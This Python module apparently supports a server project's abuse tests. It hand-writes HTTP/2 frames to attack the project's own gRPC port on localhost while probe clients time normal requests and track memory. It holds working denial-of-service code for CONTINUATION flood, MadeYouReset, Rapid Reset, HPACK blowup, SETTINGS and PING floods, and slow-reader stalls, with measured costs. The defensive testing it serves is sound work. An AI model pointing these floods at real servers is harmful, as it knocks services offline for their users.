"""Attacks on the gRPC port from outside (issue #37, item 4), and what a test watches meanwhile.

Each attack is a function ``attack(port, stop) -> list[Attacker]`` run in a thread: it
attacks until ``stop`` is set (a few seconds), may then wait a bounded time for the
server's answer (a timeout's reset, say), and returns the connections it used, each
knowing how the server ended it (GOAWAY codes, RST_STREAMs, end of stream, EOF).
Frames are written by hand (``hpack`` for header blocks), as no HTTP/2 library would
send them.

``under_attack`` runs one while ``Probe`` plays the well-behaved clients: every
``PROBE_PERIOD`` a ModelInfer of ``simple`` over tritonclient.grpc (one channel) and a
REST infer on a new connection, each timed (wall, and the time the fronts' loops ran or
were blocked while it waited: ``loop_checks``), and the server's footprint sampled (RSS of
the front and its children, and what its /dev/shm segments hold). The attack runs until
``MIN_ROUNDS`` rounds have ended during it.
"""

from __future__ import annotations

import http.client
import json
import os
import selectors
import socket
import struct
import threading
import time
from collections.abc import Callable, Collection
from dataclasses import dataclass, field

import cv2
import hpack
import numpy as np
import tritonclient.grpc as grpcclient
from tritonclient.grpc import service_pb2

from oipserve.front.grpc.h2.frames import (
    END_HEADERS,
    END_STREAM,
    HEADER,
    HEADER_SIZE,
    PREFACE,
    ErrorCode,
    Frame,
    Setting,
    frame,
    rst_stream,
    settings_frame,
    window_update,
)
from tests.support.loop_checks import LoopBlocked, loop_run_seconds
from tests.support.memory import MiB, proc_status
from tests.support.server import ServerProcess
from tests.support.tensors import simple_inputs

SERVICE = "/inference.GRPCInferenceService/"
#: Seconds between two rounds of the well-behaved clients.
PROBE_PERIOD = 0.25
#: What a well-behaved call may wait for while the server is under attack, in seconds the
#: fronts' loops ran or were blocked meanwhile (``Probe.held``): an attacker's work done
#: at once, or a call it blocks in, holds the others' calls that long whatever the
#: machine's load, which alone made a 1 s bound on the calls' wall time fail on a loaded
#: 2-core box.
PROBE_BUDGET = 1.0
#: Rounds of the well-behaved clients that must end while the attack still runs: it
#: runs on past its seconds until they have (a loaded box makes rounds slow, not fewer)...
MIN_ROUNDS = 3
#: ...for at most this long: a round took at most ~3 s on a loaded 2-core box (and each
#: of its two calls gives up after 5 s).
ROUNDS_WAIT = 10.0

Attack = Callable[[int, threading.Event], "list[Attacker]"]


# ---- one attacking connection -------------------------------------------------------


class Attacker:
    """A raw HTTP/2 client connection; what the server sends is read by a thread of its
    own (``read=False``: not read at all until ``drain``), parsed into frames."""

    def __init__(
        self,
        port: int,
        settings: dict[Setting, int] | None = None,
        preface: bool = True,
        read: bool = True,
        rcvbuf: int | None = None,
    ) -> None:
        self.sock = _connect(port, rcvbuf)
        self.encoder = hpack.Encoder()
        #: Error codes of the GOAWAYs the server sent.
        self.goaway: list[int] = []
        #: Stream id -> the code of the server's RST_STREAM for it.
        self.resets: dict[int, int] = {}
        #: Streams the server ended with END_STREAM (its trailers).
        self.ended: set[int] = set()
        #: Streams the server began to answer (their first HEADERS frame).
        self.began: set[int] = set()
        #: Streams opened with ``call``.
        self.opened: set[int] = set()
        #: The server closed (EOF or reset) the connection.
        self.closed = threading.Event()
        self._buffer = b""
        self._reader: threading.Thread | None = None
        if read:
            self._reader = threading.Thread(target=self._read, daemon=True)
            self._reader.start()
        if preface:
            self.send(PREFACE + settings_frame(settings or {}))

    @property
    def answered(self) -> set[int]:
        """Streams the server ended, by its trailers or a reset."""
        return self.ended | set(self.resets)

    def send(self, data: bytes) -> bool:
        """Send ``data``; False once the server has closed the connection."""
        try:
            self.sock.sendall(data)
        except OSError:
            self.closed.set()
            return False
        return True

    def call(self, stream: int, method: str, end_stream: bool = False, extra: tuple = ()) -> bytes:
        """The HEADERS frame of a call to ``method`` (``extra``: more header fields)."""
        self.opened.add(stream)
        block = self.encoder.encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", SERVICE + method),
                (":authority", "attacker"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
                *extra,
            ]
        )
        return frame(Frame.HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, block)

    def _read(self) -> None:
        while True:
            try:
                data = self.sock.recv(1 << 16)
            except TimeoutError:
                continue
            except OSError:
                data = b""
            if not data:
                self.closed.set()
                return
            self._parse(data)

    def _parse(self, data: bytes) -> None:
        buffer = self._buffer + data
        pos = 0
        while len(buffer) - pos >= HEADER_SIZE:
            high, low, kind, flags, stream = HEADER.unpack_from(buffer, pos)
            length = (high << 8) | low
            if len(buffer) - pos - HEADER_SIZE < length:
                break
            payload = buffer[pos + HEADER_SIZE : pos + HEADER_SIZE + length]
            pos += HEADER_SIZE + length
            if kind == Frame.GOAWAY:
                self.goaway.append(struct.unpack_from(">II", payload)[1])
            elif kind == Frame.RST_STREAM:
                self.resets[stream] = struct.unpack(">I", payload)[0]
            elif kind == Frame.HEADERS:
                self.began.add(stream)
                if flags & END_STREAM:
                    self.ended.add(stream)
        self._buffer = buffer[pos:]

    def drain(self, within: float) -> None:
        """Read (for a connection made with ``read=False``) until the server closes it
        or ``within`` seconds pass."""
        deadline = time.monotonic() + within
        self.sock.settimeout(0.2)
        while not self.closed.is_set() and time.monotonic() < deadline:
            try:
                data = self.sock.recv(1 << 16)
            except TimeoutError:
                continue
            except OSError:
                data = b""
            if not data:
                self.closed.set()
                break
            self._parse(data)

    def wait(self, predicate: Callable[[], bool], within: float) -> bool:
        """Wait for ``predicate`` (on what the reader has seen) or the connection's end."""
        deadline = time.monotonic() + within
        while time.monotonic() < deadline:
            if predicate():
                return True
            if self.closed.is_set():
                return predicate()
            time.sleep(0.02)
        return predicate()

    def close(self) -> None:
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        if self._reader is not None:
            self._reader.join(5)


def _connect(port: int, rcvbuf: int | None) -> socket.socket:
    """A connection to ``port``; ``rcvbuf``: its receive buffer, set before the connect
    (the window the kernel offers follows from it)."""
    if rcvbuf is None:
        return socket.create_connection(("127.0.0.1", port), timeout=10)
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.settimeout(10)
    sock.connect(("127.0.0.1", port))
    return sock


def disconnected(attackers: list[Attacker], codes: Collection[int], within: float) -> list[str]:
    """What is wrong with how the server ended ``attackers``, within ``within`` seconds
    (all together): each connection closed, any GOAWAY on it one of ``codes``, and at
    least one GOAWAY seen. (The server lingers after a flood's GOAWAY so that a reader
    gets it, ``front.grpc.linger``; a connection past its bound of lingering sockets, or
    one whose reader comes later than the linger, may still see only a reset.)"""
    deadline = time.monotonic() + within
    wrong = []
    for index, attacker in enumerate(attackers):
        attacker.closed.wait(max(0.0, deadline - time.monotonic()))
        if not attacker.closed.is_set() or set(attacker.goaway) - set(codes):
            closed = attacker.closed.is_set()
            wrong.append(f"connection {index}: goaway {attacker.goaway}, closed {closed}")
    if not any(attacker.goaway for attacker in attackers):
        wrong.append(f"no connection saw a GOAWAY (of {sorted(codes)})")
    return wrong


# ---- request messages -----------------------------------------------------------------


def grpc_message(payload: bytes) -> bytes:
    return struct.pack(">BI", 0, len(payload)) + payload


def simple_request() -> bytes:
    """A ModelInfer request message for ``simple`` (two INT32 inputs of 16)."""
    request = service_pb2.ModelInferRequest(model_name="simple")
    for name in ("INPUT0", "INPUT1"):
        request.inputs.add(name=name, datatype="INT32", shape=[1, 16])
        request.raw_input_contents.append(np.arange(16, dtype=np.int32).tobytes())
    return grpc_message(request.SerializeToString())


def identity_request(nbytes: int) -> bytes:
    """A ModelInfer request message for ``identity_fp32`` of ``nbytes`` (its reply as large)."""
    request = service_pb2.ModelInferRequest(model_name="identity_fp32")
    request.inputs.add(name="INPUT0", datatype="FP32", shape=[1, nbytes // 4])
    request.raw_input_contents.append(bytes(nbytes))
    return grpc_message(request.SerializeToString())


def image_request(side: int) -> bytes:
    """A ModelInfer request for ``image_rgb_fp32``: one PNG of ``side`` x ``side`` of one
    colour (a few KB), whose reply is ``side``² x 3 float32 (12 MiB at 1024)."""
    ok, png = cv2.imencode(".png", np.full((side, side, 3), 7, np.uint8))
    if not ok:
        raise RuntimeError("cv2 could not encode a PNG")
    request = service_pb2.ModelInferRequest(model_name="image_rgb_fp32")
    request.inputs.add(name="image", datatype="BYTES", shape=[1])
    request.raw_input_contents.append(struct.pack("<I", len(png)) + png.tobytes())
    return grpc_message(request.SerializeToString())


def data_frames(stream: int, message: bytes, size: int = 16 * 1024) -> bytes:
    """``message`` as DATA frames of ``size`` (the last one ending the stream)."""
    return b"".join(
        frame(
            Frame.DATA,
            END_STREAM if pos + size >= len(message) else 0,
            stream,
            message[pos : pos + size],
        )
        for pos in range(0, len(message), size)
    )


def prefix(length: int) -> bytes:
    """A message's 5-byte prefix alone, declaring ``length`` bytes to come."""
    return struct.pack(">BI", 0, length)


# ---- the attacks ------------------------------------------------------------------------


#: Seconds a connection already attacking when ``stop`` comes may go on: the server's
#: answer to a flood comes within milliseconds of its limit.
GRACE = 1.0


def _reconnecting(
    port: int, stop: threading.Event, one: Callable[[Attacker, threading.Event], None]
) -> list[Attacker]:
    """New connections, one after another until ``stop``, each attacked by ``one`` until
    the server closes it or ``GRACE`` seconds after ``stop`` (its second argument, set
    then): the last one is not cut short before the server had the time to answer."""
    give_up = _after(stop, GRACE)
    attackers = []
    while not stop.is_set():
        attacker = Attacker(port)
        attackers.append(attacker)
        one(attacker, give_up)
        if not attacker.closed.is_set():
            break  # left open: what the server did is for the test to see
        attacker.close()
    give_up.set()
    return attackers


def _after(event: threading.Event, seconds: float) -> threading.Event:
    """An event set ``seconds`` after ``event`` is."""
    later = threading.Event()

    def wait() -> None:
        event.wait()
        later.wait(seconds)
        later.set()

    threading.Thread(target=wait, daemon=True).start()
    return later


#: Seconds a send of ``read_late`` may block before it takes the server to have stopped
#: reading (well under ``front.grpc.linger.LINGER_SECONDS``: it reads after).
STALL = 0.05
#: ``read_late``'s receive buffer: a few KB of the server's answers fill its window. (The
#: kernel's least, 1, is too small: it drops segments, and the retransmission timer's
#: 200 ms then delays everything after.)
LATE_RCVBUF = 4096
#: PINGs ``read_late`` sends first: their ACKs (14 KB) fill its window; under the flood
#: budget (``h2.connection_state.FLOOD_BUDGET``).
LATE_PINGS = 800


def read_late(
    port: int, ending: Callable[[Attacker], bytes], flood: bytes, within: float
) -> Attacker:
    """A client that fills its window with PING ACKs and sends ``ending`` (made for its
    connection: what makes the server end it), then ``flood`` again and again, reading
    nothing until a send fails (the server closed) or stalls ``STALL`` seconds (the
    server stopped reading); then it reads all until the server closes or ``within``
    seconds pass. Whatever the server writes last (its GOAWAY) still waits in the
    server's send queue when it decides to close: closed then with the flood unread, the
    socket would be reset, and the reset drops that queue (the GOAWAY never arrives)."""
    attacker = Attacker(port, read=False, rcvbuf=LATE_RCVBUF)
    attacker.sock.settimeout(STALL)
    pings = frame(Frame.PING, 0, 0, b"12345678") * LATE_PINGS
    sent = attacker.send(pings + ending(attacker))
    while sent:
        try:
            attacker.sock.sendall(flood)
        except TimeoutError:
            break  # stalled: the server reads no more
        except OSError:
            sent = False
    attacker.drain(within)
    return attacker


def _until_closed(attacker: Attacker, stop: threading.Event, chunk: Callable[[], bytes]) -> None:
    while not stop.is_set() and not attacker.closed.is_set():
        if not attacker.send(chunk()):
            return


def continuation_flood(port: int, stop: threading.Event) -> list[Attacker]:
    """HEADERS without END_HEADERS, then empty CONTINUATION frames without end
    (CVE-2024-27316; 40,000 of them cost 18 s of the front's CPU)."""
    empties = frame(Frame.CONTINUATION, 0, 1) * 4096

    def one(attacker: Attacker, give_up: threading.Event) -> None:
        head = attacker.call(1, "ModelInfer")
        attacker.send(frame(Frame.HEADERS, 0, 1, head[HEADER_SIZE:]))
        _until_closed(attacker, give_up, lambda: empties)

    return _reconnecting(port, stop, one)


def _streams(start: int, count: int) -> range:
    return range(start, start + 2 * count, 2)


def made_you_reset_infer(port: int, stop: threading.Event) -> list[Attacker]:
    """ "MadeYouReset" (CVE-2025-8671): ModelInfer calls whose prefix declares 300 KiB (read
    into an input segment), then a WINDOW_UPDATE of 0 that makes the server reset each."""
    body = prefix(300 * 1024) + b"x" * 1000

    def one(attacker: Attacker, give_up: threading.Event) -> None:
        first = 1
        while not give_up.is_set() and not attacker.closed.is_set() and first < 2**31 - 200:
            batch = b"".join(
                attacker.call(s, "ModelInfer") + frame(Frame.DATA, 0, s, body) + window_update(s, 0)
                for s in _streams(first, 50)
            )
            first += 100
            if not attacker.send(batch):
                return

    return _reconnecting(port, stop, one)


def made_you_reset_stream(port: int, stop: threading.Event) -> list[Attacker]:
    """ "MadeYouReset" on ModelStreamInfer: HEADERS (a stream's task and queue made), then a
    WINDOW_UPDATE of 0; 50,000 such streams grew the front by 700 MB, kept."""

    def one(attacker: Attacker, give_up: threading.Event) -> None:
        first = 1
        while not give_up.is_set() and not attacker.closed.is_set() and first < 2**31 - 200:
            batch = b"".join(
                attacker.call(s, "ModelStreamInfer") + window_update(s, 0)
                for s in _streams(first, 100)
            )
            first += 200
            if not attacker.send(batch):
                return

    return _reconnecting(port, stop, one)


def rapid_reset(port: int, stop: threading.Event) -> list[Attacker]:
    """Rapid reset (CVE-2023-44487): a whole ModelInfer call, then RST_STREAM CANCEL at once."""
    message = simple_request()

    def one(attacker: Attacker, give_up: threading.Event) -> None:
        first = 1
        while not give_up.is_set() and not attacker.closed.is_set() and first < 2**31 - 200:
            batch = b"".join(
                attacker.call(s, "ModelInfer")
                + frame(Frame.DATA, END_STREAM, s, message)
                + rst_stream(s, ErrorCode.CANCEL)
                for s in _streams(first, 100)
            )
            first += 200
            if not attacker.send(batch):
                return

    return _reconnecting(port, stop, one)


def silent_prefix(linger: float) -> Attack:
    """Four ModelInfer calls whose prefix declares 256 MiB (a segment reserved for each),
    a KB of it, then silence on an open connection; waits up to ``linger`` seconds after
    ``stop`` for the server to end the calls."""

    def attack(port: int, stop: threading.Event) -> list[Attacker]:
        attacker = Attacker(port)
        streams = (1, 3, 5, 7)
        attacker.send(
            b"".join(
                attacker.call(s, "ModelInfer")
                + frame(Frame.DATA, 0, s, prefix(256 * MiB) + b"x" * 1000)
                for s in streams
            )
        )
        stop.wait()
        attacker.wait(lambda: attacker.answered >= set(streams), linger)
        return [attacker]

    return attack


def hpack_blowup(port: int, stop: threading.Event) -> list[Attacker]:
    """100 connections, each 64 header blocks that reference one 4 KB field of its HPACK
    table (~6 KB sent a connection; it grew the front ~4 MB a connection, never returned)."""
    attackers = []
    for _ in range(100):
        if stop.is_set():
            break
        attacker = Attacker(port)
        attackers.append(attacker)
        attacker.send(b"".join(_big_block(attacker, s) for s in _streams(1, 64)))
    stop.wait()
    return attackers


def _big_block(attacker: Attacker, stream: int) -> bytes:
    """A ServerLive call whose fields are all never indexed but one of 4,000 bytes, which
    stays in the table: from the second block on it is sent as one byte (an index)."""
    fields = [
        (":method", "POST", True),
        (":scheme", "http", True),
        (":path", SERVICE + "ServerLive", True),
        (":authority", "attacker", True),
        ("content-type", "application/grpc", True),
        ("te", "trailers", True),
        ("x-big", "b" * 4000),
        ("x-n", str(stream), True),
    ]
    block = attacker.encoder.encode(fields)
    return frame(Frame.HEADERS, END_HEADERS | END_STREAM, stream, block)


def silent_connections(count: int, linger: float) -> Attack:
    """``count`` connections open at once that send nothing, each replaced as the server
    closes it; after ``stop``, the last ones are waited for up to ``linger`` seconds.
    Read with a selector (a thread each would be ``count`` threads)."""

    def attack(port: int, stop: threading.Event) -> list[Attacker]:
        selector = selectors.DefaultSelector()
        done: list[Attacker] = []

        def open_one() -> None:
            attacker = Attacker(port, preface=False, read=False)
            attacker.sock.setblocking(False)
            selector.register(attacker.sock, selectors.EVENT_READ, attacker)

        try:
            for _ in range(count):
                open_one()
            deadline = None
            while selector.get_map():
                if stop.is_set() and deadline is None:
                    deadline = time.monotonic() + linger
                if deadline is not None and time.monotonic() > deadline:
                    break
                for key, _ in selector.select(0.1):
                    attacker = key.data
                    if _take(attacker):
                        selector.unregister(attacker.sock)
                        attacker.sock.close()
                        done.append(attacker)
                        if not stop.is_set():
                            open_one()
        finally:
            left = [key.data for key in selector.get_map().values()]
            for attacker in left:
                selector.unregister(attacker.sock)
                attacker.sock.close()
            selector.close()
        return done + left

    return attack


def _take(attacker: Attacker) -> bool:
    """Read what is there (non-blocking); True at the connection's end."""
    try:
        data = attacker.sock.recv(1 << 16)
    except BlockingIOError:
        return False
    except OSError:
        data = b""
    if not data:
        attacker.closed.set()
        return True
    attacker._parse(data)
    return False


def no_preface(port: int, stop: threading.Event) -> list[Attacker]:
    """Connections that never send the preface: half send nothing, half half of it."""
    attackers = []
    for index in range(20):
        attacker = Attacker(port, preface=False)
        if index % 2:
            attacker.send(PREFACE[: len(PREFACE) // 2])
        attackers.append(attacker)
    stop.wait()
    return attackers


def http1_request(port: int, stop: threading.Event) -> list[Attacker]:
    """An HTTP/1.1 request on the gRPC port, connection after connection."""

    request = b"POST /v2/models/simple/infer HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}"
    attackers = []
    while not stop.is_set():
        attacker = Attacker(port, preface=False)
        attackers.append(attacker)
        attacker.send(request)
        attacker.closed.wait(5)
        attacker.close()
    return attackers


def stream_past_window(port: int, stop: threading.Event) -> list[Attacker]:
    """ModelStreamInfer streams of 1 MiB requests, two at a time, sent as fast as the
    socket takes them with the server's windows never looked at, from a client that
    gives the server no window for the responses (so the streams' handlers stop taking
    requests); each pair the server resets is followed by the next, until ``stop``.
    300 MiB sent so grew the front 1:1 while the server kept sending WINDOW_UPDATEs; now
    a pair is reset within a few MiB, so the attack sends at the socket's pace.

    Each stream's HEADERS go with its first message: a stream opened and left silent
    holds nothing, and the server rightly leaves it open (a ModelStreamInfer client may
    send its first request whenever it likes), where the test asks for every stream
    reset (when ``stop`` came between a pair's HEADERS and its DATA, 1 run in 6 of
    ``test_grpc_abuse.py``, the pair stayed open)."""
    message = identity_request(MiB - 64)
    attacker = Attacker(port, {Setting.INITIAL_WINDOW_SIZE: 0})
    first = 1
    while not stop.is_set():
        streams = (first, first + 2)
        first += 4
        frames = {
            s: b"".join(
                frame(Frame.DATA, 0, s, message[pos : pos + 256 * 1024])
                for pos in range(0, len(message), 256 * 1024)
            )
            for s in streams
        }
        opening = (attacker.call(s, "ModelStreamInfer") + frames[s] for s in streams)
        if not attacker.send(b"".join(opening)):
            return [attacker]
        while not stop.is_set():
            for stream in streams:
                if stream not in attacker.resets and not attacker.send(frames[stream]):
                    return [attacker]
            if set(streams) <= set(attacker.resets):
                break
    return [attacker]


def zero_window(message: bytes, calls: int, linger: float, settings: dict) -> Attack:
    """``calls`` calls of ``message`` from a client that reads its socket but never
    gives the server any window (``settings``: its SETTINGS, INITIAL_WINDOW_SIZE 0 say);
    after ``stop``, waits up to ``linger`` seconds for the server to end them."""

    def attack(port: int, stop: threading.Event) -> list[Attacker]:
        attacker = Attacker(port, settings)
        streams = list(_streams(1, calls))
        for stream in streams:
            attacker.send(attacker.call(stream, "ModelInfer") + data_frames(stream, message))
        stop.wait()
        attacker.wait(lambda: attacker.answered >= set(streams), linger)
        return [attacker]

    return attack


def slow_reader(port: int, message: bytes, grant: int, period: float, within: float) -> Attacker:
    """One ModelInfer call of ``message`` from a client that reads its reply slowly but
    steadily: it gives the server ``grant`` bytes of window (stream and connection) every
    ``period`` seconds, from a window of 0, until the call ends or ``within`` seconds."""
    reader = Attacker(port, {Setting.INITIAL_WINDOW_SIZE: 0})
    reader.send(reader.call(1, "ModelInfer") + data_frames(1, message))
    deadline = time.monotonic() + within
    while not reader.answered and not reader.closed.is_set() and time.monotonic() < deadline:
        reader.send(window_update(1, grant) + window_update(0, grant))
        reader.closed.wait(period)
    return reader


def window_settings_storm(port: int, stop: threading.Event) -> list[Attacker]:
    """1,024 open ModelStreamInfer streams, then SETTINGS frames of 43,690
    INITIAL_WINDOW_SIZE entries (each entry walked every open stream: 1.1 s a frame)."""
    entries = struct.pack(">HI", Setting.INITIAL_WINDOW_SIZE, 65535) * 43690
    storm = frame(Frame.SETTINGS, 0, 0, entries)

    def one(attacker: Attacker, give_up: threading.Event) -> None:
        opened = b"".join(attacker.call(s, "ModelStreamInfer") for s in _streams(1, 1024))
        attacker.send(opened)
        _until_closed(attacker, give_up, lambda: storm)

    return _reconnecting(port, stop, one)


def ping_flood(port: int, stop: threading.Event) -> list[Attacker]:
    pings = frame(Frame.PING, 0, 0, b"12345678") * 1000
    return _reconnecting(port, stop, lambda a, give_up: _until_closed(a, give_up, lambda: pings))


def settings_flood(port: int, stop: threading.Event) -> list[Attacker]:
    settings = settings_frame({Setting.ENABLE_PUSH: 0}) * 1000
    return _reconnecting(port, stop, lambda a, give_up: _until_closed(a, give_up, lambda: settings))


# ---- the server's side: well-behaved clients and its footprint --------------------------


def descriptors(pid: int) -> int:
    """File descriptors ``pid`` holds open now."""
    return len(os.listdir(f"/proc/{pid}/fd"))


def tree(server: ServerProcess) -> list[int]:
    """The front and its children (workers, other HTTP fronts)."""
    return [server.process.pid, *server.children()]


def rss(pids: list[int]) -> int:
    """Summed private RSS of ``pids`` (those gone count nothing): VmRSS less the shared
    memory pages mapped (``shm_held`` counts those once, where a front and a worker
    both mapping one segment would count it twice here)."""
    total = 0
    for pid in pids:
        try:
            total += proc_status(pid, "VmRSS") - proc_status(pid, "RssShmem")
        except (OSError, KeyError):
            continue
    return total


def shm_held(pids: list[int]) -> int:
    """Bytes /dev/shm holds for the segments of ``pids`` (allocated pages, not sizes)."""
    prefixes = tuple(f"oipserve-{pid}-" for pid in pids)
    total = 0
    for name in os.listdir("/dev/shm"):
        if name.startswith(prefixes):
            try:
                total += os.stat(f"/dev/shm/{name}").st_blocks * 512
            except OSError:
                continue
    return total


@dataclass
class Probe:
    """The well-behaved clients, one round every ``PROBE_PERIOD`` until ``stop``."""

    server: ServerProcess
    #: (what, seconds it took) of every call; failures in ``failures``.
    timings: list[tuple[str, float]] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)
    #: Peak RSS (front and children) and /dev/shm held, over the rounds.
    peak_rss: int = 0
    peak_shm: int = 0
    #: (what, seconds the fronts' loops ran or were blocked while it waited) of every
    #: call: what the attacker held them for, which the machine's load does not make grow.
    held: list[tuple[str, float]] = field(default_factory=list)
    #: The fronts (their loops: their main threads), found once.
    fronts: list[int] = field(default_factory=list)
    #: Their loops' blocked time, watched while ``run`` runs.
    blocked: LoopBlocked | None = None
    #: Rounds that ended while the attack still ran (``under_attack``).
    during: int = 0

    def round(self, client: grpcclient.InferenceServerClient) -> None:
        pids = tree(self.server)
        self.fronts = self.fronts or [self.server.process.pid, *self.server.http_front_pids()]
        self.peak_rss = max(self.peak_rss, rss(pids))
        self.peak_shm = max(self.peak_shm, shm_held(pids))
        a = np.arange(16, dtype=np.int32).reshape(1, 16)
        for what, call in (("grpc", lambda: _grpc_infer(client, a)), ("rest", self._rest)):
            start, ran = time.perf_counter(), self._loops_ran()
            try:
                call()
            except Exception as exc:  # noqa: BLE001 - any failure is the finding
                self.failures.append(f"{what}: {exc!r}"[:300])
            self.timings.append((what, time.perf_counter() - start))
            self.held.append((what, self._loops_ran() - ran))

    def _loops_ran(self) -> float:
        """Seconds the fronts' loop threads have run or been blocked so far (those gone
        count nothing)."""
        total = self.blocked.seconds if self.blocked else 0.0
        for pid in self.fronts:
            try:
                total += loop_run_seconds(pid)
            except OSError:
                continue
        return total

    def _rest(self) -> None:
        body = {
            "inputs": [
                {"name": n, "shape": [1, 16], "datatype": "INT32", "data": list(range(16))}
                for n in ("INPUT0", "INPUT1")
            ]
        }
        conn = http.client.HTTPConnection(self.server.host_port, timeout=5)
        try:
            conn.request("POST", "/v2/models/simple/infer", json.dumps(body))
            response = conn.getresponse()
            reply = response.read()
            if response.status != 200:
                raise RuntimeError(f"REST {response.status}: {reply[:200]!r}")
        finally:
            conn.close()

    def run(self, busy: Callable[[], bool]) -> None:
        self.fronts = [self.server.process.pid, *self.server.http_front_pids()]
        self.blocked = LoopBlocked(self.fronts)
        with self.blocked, grpcclient.InferenceServerClient(self.server.grpc_url) as client:
            while True:
                started = time.monotonic()
                self.round(client)
                if not busy():
                    return
                time.sleep(max(0.0, PROBE_PERIOD - (time.monotonic() - started)))

    @property
    def worst(self) -> float:
        return max((seconds for _, seconds in self.timings), default=0.0)

    @property
    def most_held(self) -> float:
        return max((seconds for _, seconds in self.held), default=0.0)

    @property
    def held_long(self) -> list[tuple[str, float]]:
        """Calls that waited while the fronts' loops ran over ``PROBE_BUDGET``."""
        return [(what, round(s, 3)) for what, s in self.held if s > PROBE_BUDGET]


def _grpc_infer(client: grpcclient.InferenceServerClient, a: np.ndarray) -> None:
    result = client.infer("simple", simple_inputs(a, a), client_timeout=5)
    if result.as_numpy("OUTPUT0") is None:
        raise RuntimeError("no OUTPUT0")


@dataclass
class Outcome:
    """What an attack cost, as the test reads it."""

    attackers: list[Attacker]
    probe: Probe
    rss_before: int
    shm_before: int
    seconds: float

    @property
    def rss_growth(self) -> int:
        return self.probe.peak_rss - self.rss_before

    @property
    def shm_growth(self) -> int:
        return self.probe.peak_shm - self.shm_before


def under_attack(server: ServerProcess, attack: Attack, seconds: float) -> Outcome:
    """Run ``attack`` for ``seconds`` (plus what it waits for after) while ``Probe`` runs;
    the footprint's baseline is taken after one probe round, before the attack."""
    warm = Probe(server)
    with grpcclient.InferenceServerClient(server.grpc_url) as client:
        warm.round(client)
    pids = tree(server)
    rss_before, shm_before = rss(pids), shm_held(pids)
    stop = threading.Event()
    result: list[list[Attacker]] = []
    errors: list[BaseException] = []

    def attacking() -> None:
        try:
            result.append(attack(server.grpc_port, stop))
        except BaseException as exc:  # noqa: BLE001 - reported by the test
            errors.append(exc)

    start = time.monotonic()
    thread = threading.Thread(target=attacking, daemon=True)
    thread.start()
    probe = Probe(server)

    def time_up() -> None:
        """The attack stops on time when ``MIN_ROUNDS`` have ended (else ``busy``)."""
        if probe.during >= MIN_ROUNDS:
            stop.set()

    def busy() -> bool:
        """After each round: count it if the attack still runs (and ``ROUNDS_WAIT`` has
        not passed since its ``seconds``), and stop an attack past its ``seconds`` once
        ``MIN_ROUNDS`` have ended, or ``ROUNDS_WAIT`` has passed."""
        if not stop.is_set() and thread.is_alive():
            late = time.monotonic() - start - seconds
            if late < ROUNDS_WAIT:
                probe.during += 1
            if late >= 0 and (probe.during >= MIN_ROUNDS or late >= ROUNDS_WAIT):
                stop.set()
        return thread.is_alive()

    timer = threading.Timer(seconds, time_up)
    timer.start()
    try:
        probe.run(busy)
    finally:
        stop.set()
        timer.cancel()
        thread.join(60)
    if errors:
        raise errors[0]
    attackers = result[0] if result else []
    return Outcome(attackers, probe, rss_before, shm_before, time.monotonic() - start)


def close_all(attackers: list[Attacker]) -> None:
    for attacker in attackers:
        if attacker.sock.fileno() != -1:
            attacker.close()
